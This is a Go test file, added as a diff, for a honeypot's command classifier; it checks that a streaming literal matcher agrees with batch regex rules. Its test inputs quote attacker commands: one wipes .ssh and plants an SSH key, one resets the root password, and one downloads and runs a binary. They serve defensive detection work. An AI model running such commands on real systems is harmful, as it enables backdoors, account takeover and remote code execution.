@@ -1,0 +1,251 @@
+package live
+
+import (
+	"math/rand"
+	"strings"
+	"testing"
+
+	"honeynet/internal/classify"
+	"honeynet/internal/session"
+	"honeynet/internal/simulate"
+)
+
+// corpusTexts simulates a corpus and returns the distinct command
+// texts, the classification input population.
+func corpusTexts(t testing.TB, scale float64, seed int64) []string {
+	t.Helper()
+	seen := map[string]bool{}
+	var texts []string
+	_, err := simulate.Run(simulate.Config{
+		Scale:   scale,
+		Seed:    seed,
+		Discard: true,
+		Sink: func(r *session.Record) {
+			txt := r.CommandText()
+			if txt == "" || seen[txt] {
+				return
+			}
+			seen[txt] = true
+			texts = append(texts, txt)
+		},
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(texts) == 0 {
+		t.Fatal("simulated corpus produced no command texts")
+	}
+	return texts
+}
+
+// TestStreamingMatchesBatch is the correctness bar: the single-pass
+// streaming classifier must agree byte-for-byte with the batch rule
+// probe over simulated corpora at several sample sizes.
+func TestStreamingMatchesBatch(t *testing.T) {
+	c := classify.New()
+	m := NewMatcher(c)
+	for _, tc := range []struct {
+		scale float64
+		seed  int64
+	}{
+		{100000, 1},
+		{50000, 2},
+		{20000, 3},
+	} {
+		texts := corpusTexts(t, tc.scale, tc.seed)
+		for _, txt := range texts {
+			want := c.ClassifyUncached(txt)
+			got := m.Classify(txt)
+			if got != want {
+				t.Fatalf("scale=%v: streaming %q != batch %q for %q", tc.scale, got, want, txt)
+			}
+		}
+		t.Logf("scale=%v: %d distinct texts agree", tc.scale, len(texts))
+	}
+}
+
+// TestStreamingMatchesBatchAdversarial exercises the corners the
+// simulator never produces: literal fragments, overlapping literals,
+// rule-precedence traps, empty and binary-ish inputs.
+func TestStreamingMatchesBatchAdversarial(t *testing.T) {
+	c := classify.New()
+	m := NewMatcher(c)
+	cases := []string{
+		"",
+		"mdrfckr",
+		"mdrfckrhosts.deny",
+		"hosts.deny mdrfck", // literal prefix but not the full literal
+		`cd ~ && rm -rf .ssh && echo "ssh-rsa AAA mdrfckr">>.ssh/authorized_keys; echo > /etc/hosts.deny`,
+		"wget curl ftp echo",
+		"wgetcurl", // \b requires must fail even though substrings occur
+		"echo ok echo okecho ok",
+		strings.Repeat("busybox ", 100),
+		"uname -a; nproc; /bin/busybox ABCDE; tftp; wget",
+		"\x00\x01\x02 echo \xff\xfe",
+		"dget -4 wget -4",
+		"update.shupdate.sh",
+		"perl perl dred dred",
+		"max-redirmax",
+	}
+	// Every batch-test vector plus random splices of literals.
+	for _, r := range c.Rules() {
+		cases = append(cases, strings.Join(r.Literals(), " "))
+		cases = append(cases, strings.Join(r.Literals(), ""))
+	}
+	rng := rand.New(rand.NewSource(7))
+	var lits []string
+	for _, r := range c.Rules() {
+		lits = append(lits, r.Literals()...)
+	}
+	for i := 0; i < 2000; i++ {
+		n := 1 + rng.Intn(5)
+		var b strings.Builder
+		for j := 0; j < n; j++ {
+			lit := lits[rng.Intn(len(lits))]
+			if rng.Intn(3) == 0 && len(lit) > 1 {
+				lit = lit[:1+rng.Intn(len(lit)-1)] // partial literal
+			}
+			b.WriteString(lit)
+			if rng.Intn(2) == 0 {
+				b.WriteByte(' ')
+			}
+		}
+		cases = append(cases, b.String())
+	}
+	for _, txt := range cases {
+		if got, want := m.Classify(txt), c.ClassifyUncached(txt); got != want {
+			t.Fatalf("streaming %q != batch %q for %q", got, want, txt)
+		}
+	}
+}
+
+// TestMatcherStats sanity-checks the work accounting: candidates +
+// skipped covers every rule up to the first match.
+func TestMatcherStats(t *testing.T) {
+	c := classify.New()
+	m := NewMatcher(c)
+	var st Stats
+	cat := m.ClassifyStats("systemctl status sshd", &st)
+	if cat != classify.Unknown {
+		t.Fatalf("got %q", cat)
+	}
+	if st.Candidates+st.Skipped != len(c.Rules()) {
+		t.Fatalf("candidates %d + skipped %d != %d rules", st.Candidates, st.Skipped, len(c.Rules()))
+	}
+	if st.Skipped == 0 {
+		t.Fatal("automaton should skip most rules on an unknown text")
+	}
+	if m.NumPatterns() == 0 {
+		t.Fatal("no literal patterns compiled")
+	}
+}
+
+// TestNecessaryLits pins the extractor's behavior on representative
+// rule-table shapes and checks the one property everything rests on:
+// soundness — if the regex matches a text, the text contains at least
+// one extracted literal.
+func TestNecessaryLits(t *testing.T) {
+	cases := []struct {
+		expr string
+		want []string
+	}{
+		{`\bcurl\b`, []string{"curl"}},
+		{`\becho\b`, []string{"echo"}},
+		{`uname\s+-s\s+-v\s+-n\s+-r\s+-m`, []string{"uname"}},
+		{`root:[A-Za-z0-9]{15,}`, []string{"root:"}},
+		// The parser factors the shared "x" prefix out of the
+		// alternation; the branch remainders are still necessary.
+		{`(x0x0x0|xoxoxo)`, []string{"0x0x0", "oxoxo"}},
+		{`(/bin/busybox\s|busybox\s)`, []string{"/bin/busybox", "busybox"}},
+		{`openssl passwd -1 \S{8}`, []string{"openssl passwd -1 "}},
+		{`\S{8}`, nil},                 // char class only: nothing derivable
+		{`(?i)sora`, nil},              // case-folded literal is no containment guarantee
+		{`(abc)?def`, []string{"def"}}, // optional branch contributes nothing
+	}
+	for _, tc := range cases {
+		got := necessaryLits(tc.expr)
+		if len(got) != len(tc.want) {
+			t.Fatalf("necessaryLits(%q) = %q, want %q", tc.expr, got, tc.want)
+		}
+		for i := range got {
+			if got[i] != tc.want[i] {
+				t.Fatalf("necessaryLits(%q) = %q, want %q", tc.expr, got, tc.want)
+			}
+		}
+	}
+
+	// Soundness over the whole rule table and a simulated corpus: a
+	// match without any necessary literal present would break the
+	// streaming prefilter's byte-identity.
+	texts := corpusTexts(t, 50000, 5)
+	c := classify.New()
+	for _, r := range c.Rules() {
+		for _, re := range r.RequireRegexps() {
+			lits := necessaryLits(re.String())
+			if lits == nil {
+				continue
+			}
+			for _, txt := range texts {
+				if !re.MatchString(txt) {
+					continue
+				}
+				found := false
+				for _, lit := range lits {
+					if strings.Contains(txt, lit) {
+						found = true
+						break
+					}
+				}
+				if !found {
+					t.Fatalf("rule %s: %q matches %q but contains none of %q",
+						r.Name, re, txt, lits)
+				}
+			}
+		}
+	}
+}
+
+// TestACAutomaton cross-checks the automaton against strings.Contains
+// on random texts over a small alphabet engineered for overlaps.
+func TestACAutomaton(t *testing.T) {
+	pats := []string{"ab", "abc", "bc", "c", "abca", "aa", "cab", "bcab"}
+	b := newACBuilder()
+	for i, p := range pats {
+		b.add(p, i)
+	}
+	ac := b.build()
+	rng := rand.New(rand.NewSource(11))
+	for i := 0; i < 5000; i++ {
+		n := rng.Intn(20)
+		buf := make([]byte, n)
+		for j := range buf {
+			buf[j] = "abc"[rng.Intn(3)]
+		}
+		text := string(buf)
+		hits := make([]bool, len(pats))
+		ac.scan(text, hits)
+		for j, p := range pats {
+			if hits[j] != strings.Contains(text, p) {
+				t.Fatalf("text %q pattern %q: automaton %v, Contains %v", text, p, hits[j], !hits[j])
+			}
+		}
+	}
+}
+
+// FuzzLiveClassify fuzzes streaming-vs-batch agreement on arbitrary
+// command text.
+func FuzzLiveClassify(f *testing.F) {
+	c := classify.New()
+	m := NewMatcher(c)
+	f.Add("mdrfckr hosts.deny")
+	f.Add(`echo "root:Xy9Zq8Lm2Np4Rs6Tu"|chpasswd`)
+	f.Add("wget http://x/a; chmod +x a; ./a")
+	f.Add("/bin/busybox KDVRN")
+	f.Add("")
+	f.Add("\x00\xff echo ok")
+	f.Fuzz(func(t *testing.T, text string) {
+		if got, want := m.Classify(text), c.ClassifyUncached(text); got != want {
+			t.Fatalf("streaming %q != batch %q for %q", got, want, text)
+		}
+	})
+}
